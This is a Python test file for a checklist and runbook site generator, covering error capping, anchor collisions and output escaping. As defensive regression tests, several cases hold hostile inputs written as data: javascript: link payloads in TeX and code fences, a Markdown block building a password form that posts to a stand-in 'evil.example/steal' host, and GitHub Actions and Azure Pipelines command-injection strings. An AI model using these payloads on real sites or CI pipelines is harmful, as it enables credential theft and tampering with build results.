"""Round eleven's held-out faults and payloads: what is said of a file with thousands of problems, links to nothing
among the alarm definitions. In process and small."""

from __future__ import annotations

import difflib
import shutil
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from .conftest import ROOT, make_project, run_cli

MINI = ROOT / "tests" / "fixtures" / "mini"


def test_a_file_of_thousands_of_problems_is_said_in_a_screen_with_a_count_of_the_rest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A checklist of 50,000 unknown keys printed 100,000 lines (each with a 'did you mean' hint looked for by difflib,
    and every line escaped for the terminal): half a minute. What is said of a file is capped (errors.capped), the rest
    counted in one line, the total still the summary's; the hints past the cap are not looked for; another file's
    problems are still said."""
    from generator.errors import SAID_PER_FILE

    project = make_project(tmp_path / "p", MINI)
    lines = (project / "data" / "mini.yaml").read_text(encoding="utf-8").splitlines()
    at = lines.index("id: mini") + 1
    (project / "data" / "mini.yaml").write_text("\n".join([*lines[:at], *(f"k{n}: v" for n in range(3000)), *lines[at:]]) + "\n", encoding="utf-8")
    (project / "data" / "other.yaml").write_text("id: other\ntitle: Other\nversion: '1'\nsections: []\nowner2: x\n", encoding="utf-8")
    looked, real = [], difflib.get_close_matches
    monkeypatch.setattr(difflib, "get_close_matches", lambda *a, **k: looked.append(a[0]) or real(*a, **k))
    ran = run_cli("check", cwd=project)
    assert ran.returncode == 1
    said = ran.stderr.splitlines()
    assert sum(": error: unknown key 'k" in line for line in said) == SAID_PER_FILE
    assert f"data/mini.yaml: error: {3000 - SAID_PER_FILE:,} more problem(s) in this file, not shown" in said
    assert any(line.startswith("data/other.yaml:5:1: error: unknown key 'owner2'") for line in said)
    assert said[-1] == "3002 error(s) in 2 file(s); nothing was built or changed"
    assert len(said) < 4 * SAID_PER_FILE and len(looked) <= 2 * SAID_PER_FILE


def test_a_link_to_nothing_among_the_alarm_definitions_is_said_not_skipped(tmp_path: Path) -> None:
    """`links --check rules/` skipped a rule file that was a symbolic link to a file gone (a moved repository, a link of
    another checkout): its alarms went unchecked, and the check said ok. It is said at the link, with what to do."""
    project = make_project(tmp_path / "p")
    rules = project / "rules"
    rules.mkdir()
    shutil.copy(ROOT / "tests" / "fixtures" / "alarms" / "prometheus-rules.yml", rules / "api.yml")
    (rules / "gone.yml").symlink_to(tmp_path / "moved" / "gone.yml")
    ran = run_cli("links", "--check", "rules", cwd=project)
    assert ran.returncode == 1, ran.stderr
    assert f"rules/gone.yml: error: a symbolic link to '{tmp_path / 'moved' / 'gone.yml'}', which does not exist: nothing was read" in ran.stderr
    assert "hint: point the link at the file, or remove it" in ran.stderr


def test_an_id_that_takes_an_anchor_of_its_page_is_refused_at_its_place(tmp_path: Path) -> None:
    """An id of the data shown on a page was an element id the page gives something of its own too, and check passed: an
    instruction 'legend' (the overview's Legend heading), a rollback step 'steps', a step 'var-service' beside the
    variable SERVICE, two variables SERVICE and service (one line's anchor), a section 'cover' (the packet's cover sheet,
    #sheet-cover, and its page style @page cl-cover). The built page held the id twice and a link to the item landed on
    the heading. Each is refused at the id (layout.anchors_taken)."""
    project = make_project(tmp_path / "p", MINI)
    mini = project / "data" / "mini.yaml"
    text = mini.read_text(encoding="utf-8").replace("{id: read-first,", "{id: legend,").replace("  - id: ops\n", "  - id: cover\n")
    steps = "  steps:\n    - {id: step-decide,"
    assert steps in text
    variables = "  variables:\n    - {name: SERVICE, find: The service}\n    - {name: service, find: Another}\n"
    text = text.replace(steps, variables + "  steps:\n    - {id: var-service, title: X, text: Y, command: echo $SERVICE $service}\n    - {id: steps,")
    mini.write_text(text, encoding="utf-8")
    ran = run_cli("check", cwd=project)
    assert ran.returncode == 1
    said = [line for line in ran.stderr.splitlines() if ": error: " in line]
    needles = ("id: legend", "id: cover", "id: var-service", "id: steps", "name: service")
    line = {needle: n for n, row in enumerate(text.splitlines(), 1) for needle in needles if needle in row}
    assert said == [
        f"data/mini.yaml:{line['id: legend']}:10: error: id 'legend' of an item is the anchor of a heading of the page's own (#legend)",
        f"data/mini.yaml:{line['id: steps']}:12: error: id 'steps' of a step is the anchor of a heading of the page's own (#steps)",
        f"data/mini.yaml:{line['id: cover']}:9: error: id 'cover' is the anchor of the packet's cover sheet (#sheet-cover)",
        f"data/mini.yaml:{line['name: service']}:14: error: variables 'SERVICE' and 'service' of the rollback procedure of 'mini' would share one anchor "
        "(#var-service)",
        f"data/mini.yaml:{line['id: var-service']}:12: error: step id 'var-service' is the anchor of variable 'SERVICE' of the rollback procedure of 'mini'",
    ], said


def test_the_anchors_a_page_type_declares_are_those_its_templates_write() -> None:
    """layout's PageType.anchors (and PAGE_IDS) are what check holds ids against: every literal anchor a page's template
    (with what it includes) gives its own headings and elements is declared, so one added to a template is refused to the
    data too, and each declared anchor is written."""
    import re

    from generator.site.layout import PAGE_IDS, PAGE_TYPES

    templates = ROOT / "generator" / "site" / "templates"

    def written(name: str) -> set[str]:
        text = (templates / name).read_text(encoding="utf-8")
        found = set(re.findall(r"\{#([a-z][a-z0-9-]*)\}", text)) | set(re.findall(r'\bid="([a-z][a-z0-9-]*)"', text))
        for included in re.findall(r'\{%-? include "([^"]+)"', text):
            found |= written(included)
        return found

    for key in ("overview", "section", "part", "final-signoff", "rollback"):
        kind = PAGE_TYPES[key]
        assert written(kind.template) - set(PAGE_IDS) == set(kind.anchors), key


def test_alarms_without_a_runbook_by_the_thousand_are_said_in_a_screen(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`links --check` of 50,000 CloudWatch alarms without a runbook looked for the runbook each may have meant (difflib)
    for every one, 8 s of processor time for hints past what is said of the file; now for those said only."""
    import json

    from generator.errors import SAID_PER_FILE

    project = make_project(tmp_path / "p")
    alarms = {"MetricAlarms": [{"AlarmName": f"alarm-{n}-redis-dwn", "AlarmDescription": "x"} for n in range(2000)]}
    (project / "alarms.json").write_text(json.dumps(alarms), encoding="utf-8")
    looked, real = [], difflib.get_close_matches
    monkeypatch.setattr(difflib, "get_close_matches", lambda *a, **k: looked.append(a[0]) or real(*a, **k))
    ran = run_cli("links", "--check", "alarms.json", cwd=project)
    assert ran.returncode == 1
    assert f"alarms.json: error: {2000 - SAID_PER_FILE:,} more problem(s) in this file, not shown" in ran.stderr.splitlines()
    assert len(looked) <= SAID_PER_FILE + 10, len(looked)  # the file's said ones, and the runbooks' own (b) lines


@pytest.mark.parametrize("kind", ["status", "entry"])
def test_unknown_ids_by_the_thousand_look_for_no_hint_past_what_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    """A status file or a record entry naming 20,000 items the checklist does not have took 33 s of processor time
    looking for the item each may have meant (difflib over the checklist's ids), for hints past the 25 said of the file
    (errors.Hinted counts them as they are found)."""
    from generator.errors import SAID_PER_FILE

    project = make_project(tmp_path / "p", MINI)
    if kind == "status":
        rows = [f"  gone-{n}: {{state: done, by: Ann, date: 2026-01-08}}" for n in range(2000)]
        (project / "data" / "mini.status.yaml").write_text("checklist: mini\nitems:\n" + "\n".join(rows) + "\n", encoding="utf-8")
        name = "data/mini.status.yaml"
    else:
        rows = [f"  - {{item: gone-{n}, state: done}}" for n in range(2000)]
        (project / "data" / "mini.record").mkdir()
        entry = "checklist: mini\nby: Ann\nat: 2026-01-10T14:03:00+01:00\nchanges:\n" + "\n".join(rows) + "\n"
        (project / "data" / "mini.record" / "2026-01-10-ann.yaml").write_text(entry, encoding="utf-8")
        name = "data/mini.record/2026-01-10-ann.yaml"
    looked, real = [], difflib.get_close_matches
    monkeypatch.setattr(difflib, "get_close_matches", lambda *a, **k: looked.append(a[0]) or real(*a, **k))
    ran = run_cli("check", cwd=project)
    assert ran.returncode == 1
    assert f"{name}: error: {2000 - SAID_PER_FILE:,} more problem(s) in this file, not shown" in ran.stderr.splitlines(), ran.stderr[-500:]
    assert len(looked) <= SAID_PER_FILE, len(looked)


ARITHMATEX = {"pymdownx.arithmatex": {"generic": True}}


@settings(max_examples=40, deadline=None)
@given(st.lists(st.sampled_from([*"$\\()[]`{} xa*_/|", "/// html | style\n", "\n*[xa]: y\n"]), min_size=1, max_size=24).map("".join))
@example("\\/")  # pymdownx.blocks makes '/' escapable: the backslash vanished (found by this property in a CI run)
@example("\\$x$")  # '\$' is no escape in Markdown: the '$' after the backslash starts no math either
@example("*\n*[xa]: y\n")  # one line, '* *[xa]: y' is a list item whose text abbr read as a definition (found in a CI run)
def test_no_text_of_the_data_starts_tex_math_a_block_or_an_abbreviation(text: str) -> None:
    """pymdownx.arithmatex (Material's recipe for math, with MathJax) made a math element of a data text's '$...$',
    '$$...$$', '\\(...\\)' or '\\[...\\]', which MathJax typesets in the browser: '\\href{javascript:alert(1)}{x}' there
    (in a code span, whose braces stay braces) was a link running script, and no scan of the built HTML saw it. Every
    inline and block escape writes those delimiters as character references (escape._no_math): no math element, the same
    text shown without the extension."""
    import markdown

    from generator.site import escape

    with_math = markdown.Markdown(extensions=["pymdownx.arithmatex", "pymdownx.blocks.html", "abbr"], extension_configs=ARITHMATEX)
    plain = markdown.Markdown()
    line = text.replace("\n", " ")
    for made in (escape.md(line), escape.md_block(text), escape.unlinked_md(line), escape.plain_md(line)):
        html = with_math.reset().convert(made)
        assert "arithmatex" not in html and "<style" not in html and "<abbr" not in html, (text, made, html)
        assert html == plain.reset().convert(made)


def test_an_abbreviation_of_the_data_defines_nothing_on_its_page() -> None:
    """With the abbr extension (Material's recipe for a glossary), a section's notes line '*[GO]: Do not launch' vanished
    from the notes and put that tooltip on every 'GO' of the page, the generator's words included. It shows as written."""
    import markdown

    from generator.site import escape

    html = markdown.Markdown(extensions=["abbr"]).convert(escape.md_block("Notes\n\n*[GO]: Do not launch\n\nWe say GO."))
    assert "<abbr" not in html and "&#42;[GO]: Do not launch" in html


def test_a_math_link_of_the_data_is_text() -> None:
    """The held-out case: '$`\\href{javascript:alert(1)}{x}`$' in a section's notes."""
    import markdown

    from generator.site import escape

    html = markdown.Markdown(extensions=["pymdownx.arithmatex"], extension_configs=ARITHMATEX).convert(
        escape.md_block("Cost $`\\href{javascript:alert(1)}{x}`$ now, \\(`\\href{javascript:alert(2)}{y}`\\)")
    )
    assert "arithmatex" not in html and html.startswith("<p>Cost &#36;<code>")


def test_a_block_of_pymdownx_blocks_in_the_data_is_text() -> None:
    """With pymdownx.blocks.html in a site's mkdocs.yml, a Markdown block's '/// html | form[action=...]' made a form of
    the data on the page (a password field posting to another site), and '/// html | style' a style sheet (an @import of
    another site's CSS reads the meeting's token out of its <meta> by attribute selectors); the scan lets both through.
    Every escape writes '///' as '&#47;//': the same text, no block."""
    import markdown

    from generator.site import escape

    notes = (
        '/// html | form[action="https://evil.example/steal"]\n/// html | input[name=password type=password]\n///\n///\n\n'
        "/// html | style\n@import url(x.css);\n///"
    )
    for made in (escape.md_block(notes), escape.md("/// html | style"), escape.unlinked_md("/// details | x")):
        html = markdown.Markdown(extensions=["pymdownx.blocks.html", "pymdownx.blocks.details"]).convert(made)
        assert "<form" not in html and "<style" not in html and "<input" not in html and "<details" not in html, html
        assert "&#47;// html " in html or "&#47;// details" in html


def _ci_commands(output: str) -> list[str]:
    """The lines of ``output`` a CI runner reads as a command: GitHub Actions' '::' after leading blanks (the runner trims
    them) and '##[' anywhere, Azure Pipelines' '##vso[' anywhere."""
    return [line for line in output.splitlines() if line.lstrip().startswith("::") or "##[" in line or "##vso[" in line]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from([*":#[] \tx\n", "##vso[", "::error::", "\x1b"]), max_size=16).map("".join))
def test_no_terminal_line_is_a_command_of_a_ci_runner(text: str) -> None:
    from generator.site.escape import terminal

    assert _ci_commands(terminal(text)) == [], repr(terminal(text))


def test_gate_in_a_pipeline_prints_no_command_of_the_ci_runner(tmp_path: Path) -> None:
    """`gate` (and `status`) print a checklist's title at a line's start and blockers' texts in lines: a title
    '::error title=Approved::GO' was an annotation of the job, and '##[set-output name=verdict;]go' in a critical item
    set the step's output 'verdict' (GitHub Actions reads '##[' anywhere in a line). Shown with an escape instead."""
    project = make_project(tmp_path / "p", MINI)
    mini = project / "data" / "mini.yaml"
    text = mini.read_text(encoding="utf-8").replace("title: Mini Launch", 'title: "::error title=Approved::GO"')
    text = text.replace("text: JWT validation in *all* services", 'text: "##[set-output name=verdict;]go ##vso[task.setvariable variable=v]go"')
    mini.write_text(text, encoding="utf-8")
    for command in ("gate", "status"):
        ran = run_cli(command, "--all", cwd=project)
        assert "\\x3a:error title=Approved::GO" in ran.stdout and "\\x23#[set-output name=verdict;]go" in ran.stdout, ran.stdout
        assert _ci_commands(ran.stdout + ran.stderr) == []


def test_names_one_letter_apart_in_unicode_form_are_warned_of(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """Two data files 'café.yaml', one with 'é' composed (NFC, as most keyboards type it) and one decomposed ('e' and
    U+0301, as macOS's file systems store it), were two checklists on Linux and one file on macOS, whose file systems
    normalise names: the letter-case warning did not see them. project.portable is the one key both warnings compare."""
    import logging

    from generator.build import case_clashes
    from generator.project import Project

    project = make_project(tmp_path / "p", MINI)
    text = (project / "data" / "mini.yaml").read_text(encoding="utf-8")
    (project / "data" / "caf\u00e9.yaml").write_text(text.replace("id: mini\n", "id: cafe-one\n", 1), encoding="utf-8")
    (project / "data" / "cafe\u0301.yaml").write_text(text.replace("id: mini\n", "id: cafe-two\n", 1), encoding="utf-8")
    with caplog.at_level(logging.WARNING):
        ran = run_cli("check", cwd=project)
    said = ran.stderr + caplog.text
    assert "only by how its letters are encoded (Unicode NFC and NFD) or by letter case" in said, said
    (project / "docs" / "r\u00e9sum\u00e9.md").write_text("# A\n", encoding="utf-8")
    (project / "docs" / "Re\u0301sume\u0301.md").write_text("# B\n", encoding="utf-8")
    clashes = [issue.message for issue in case_clashes(Project.at(project), project / "docs")]
    assert any("only by how its letters are encoded" in message for message in clashes), clashes


@pytest.mark.parametrize("fmt", ["json", "cloudwatch", "terraform", "prometheus"])
def test_the_alarm_map_printed_in_a_pipeline_holds_no_command_of_the_ci_runner(tmp_path: Path, fmt: str) -> None:
    """`links` prints the alarm map on standard output, into a CI job's log where it runs in one: a runbook titled
    '##[set-output name=verdict;]go' set the step's output (GitHub Actions reads '##[' anywhere in a line), an alert
    named '::error title=Approved::GO' opened a line of the Prometheus YAML, an annotation. JSON and HCL write that '#'
    as the escape '\\u0023', the YAML every name as a double-quoted string with '\\x23': the same text to their readers."""
    import json

    project = make_project(tmp_path / "p", MINI)
    runbooks = project / "data" / "runbooks.yaml"
    title = "##[set-output name=verdict;]go ##vso[task.setvariable variable=v]go"
    text = runbooks.read_text(encoding="utf-8").replace("title: Errors <high>", f'title: "{title}"')
    alerts = f'    alerts: ["::error title=Approved::GO", "{title}"]\n'
    runbooks.write_text(text.replace("  - id: errors-high\n", "  - id: errors-high\n" + alerts, 1), encoding="utf-8")
    ran = run_cli("links", "--format", fmt, cwd=project)
    assert ran.returncode == 0, ran.stderr
    assert _ci_commands(ran.stdout) == [], ran.stdout
    if fmt == "json":
        assert json.loads(ran.stdout)["alarms"]["errors-high"]["title"] == title
    elif fmt == "cloudwatch":
        assert json.loads(ran.stdout)[0]["AlarmDescription"].startswith(f"[HIGH] {title}.")
    elif fmt == "prometheus":
        import yaml

        assert set(yaml.safe_load(ran.stdout)) >= {"::error title=Approved::GO", title}


def test_a_code_block_of_the_data_is_never_a_custom_fence() -> None:
    """A Markdown block's code fenced as 'math' or 'mermaid' kept that name, and a site with pymdownx.superfences' custom
    fences (the arithmatex recipe's 'math', Material's 'mermaid') rendered it: TeX that MathJax typesets (a
    '\\href{javascript:...}' link running script, unseen by the scan) or a diagram. A data code block keeps a language
    Pygments highlights, and is code."""
    import markdown
    import pymdownx.arithmatex
    import pymdownx.superfences

    from generator.site import escape

    fences = [
        {"name": "math", "class": "arithmatex", "format": pymdownx.arithmatex.arithmatex_fenced_format(which="generic")},
        {"name": "mermaid", "class": "mermaid", "format": pymdownx.superfences.fence_code_format},
    ]
    site = markdown.Markdown(extensions=["pymdownx.superfences"], extension_configs={"pymdownx.superfences": {"custom_fences": fences}})
    for lang in ("math", "mermaid", "Math"):
        html = site.reset().convert(escape.md_block(f"Run:\n\n```{lang}\n\\href{{javascript:alert(1)}}{{x}}\n```"))
        assert "arithmatex" not in html and "mermaid" not in html and "<code>\\href{javascript:alert(1)}{x}" in html, html
    assert escape.md_block("```python\nx = 1\n```") == "```python\nx = 1\n```"


def test_the_backslashes_kept_are_those_markdown_escapes() -> None:
    """escape keeps a backslash before the characters Python-Markdown escapes (and '|', of the tables MkDocs always
    loads), and writes any other as '&#92;', which no extension reads as an escape: the list is Markdown's own."""
    import markdown

    from generator.site.escape import _CORE_ESCAPES

    assert _CORE_ESCAPES == frozenset(markdown.Markdown(extensions=["tables"]).ESCAPED_CHARS)
